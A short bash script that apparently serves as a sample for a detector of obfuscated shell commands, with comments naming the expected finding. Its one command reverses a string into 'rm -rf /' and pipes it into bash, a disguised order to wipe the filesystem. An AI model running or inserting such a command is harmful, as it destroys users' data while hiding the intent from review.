#!/bin/bash
# shows: reversed text
# expect: decoded-to-shell at line 4
echo '/ fr- mr' | rev | bash
